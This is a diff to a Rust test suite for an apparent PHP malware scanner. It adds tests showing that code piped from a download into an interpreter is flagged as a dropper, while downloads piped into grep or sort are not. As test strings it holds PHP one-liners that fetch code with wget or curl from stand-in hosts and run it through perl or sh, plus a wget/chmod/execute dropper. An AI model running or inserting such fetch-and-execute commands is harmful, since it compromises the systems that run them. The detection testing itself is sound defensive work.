@@ -26,6 +26,11 @@ fn each_fixture_is_reported_for_its_family() {
             Why::BackdatesFiles,
         ),
         (
+            "download_piped_to_interpreter.php",
+            include_str!("../../../tests/fixtures/sweep/malicious/download_piped_to_interpreter.php"),
+            Why::DownloadsProgram,
+        ),
+        (
             "reverse_shell_socket.php",
             include_str!("../../../tests/fixtures/sweep/malicious/reverse_shell_socket.php"),
             Why::RemoteShell,
@@ -306,6 +311,19 @@ fn droppers_are_found() {
     assert_eq!(found(chmod), [Why::DownloadsProgram]);
     let pieces = "<?php $u = 'http://203.0.113.9/k'; exec('wget ' . 'http://203.0.113.9/k' . ' -O /tmp/k; chmod 755 /tmp/k; /tmp/k');";
     assert_eq!(found(pieces), [Why::DownloadsProgram]);
+    // Printed straight into an interpreter: no file, and the address needs no scheme.
+    let piped = "<?php echo 'ok'; system(\"wget -q -O - 198.51.100.7/x |perl\");";
+    assert_eq!(found(piped), [Why::DownloadsProgram]);
+    let piped_sh = "<?php shell_exec('curl -fsSL https://bad.example/i' . ' | sh');";
+    assert_eq!(found(piped_sh), [Why::DownloadsProgram]);
+}
+
+#[test]
+fn downloads_piped_into_text_tools_are_quiet() {
+    let grep = "<?php exec('curl -s https://status.example.org/v | grep version', $out);";
+    assert!(found(grep).is_empty());
+    let shown = "<?php exec('wget -q -O - 198.51.100.7/list | sort -u', $out);";
+    assert!(found(shown).is_empty());
 }
 
 #[test]
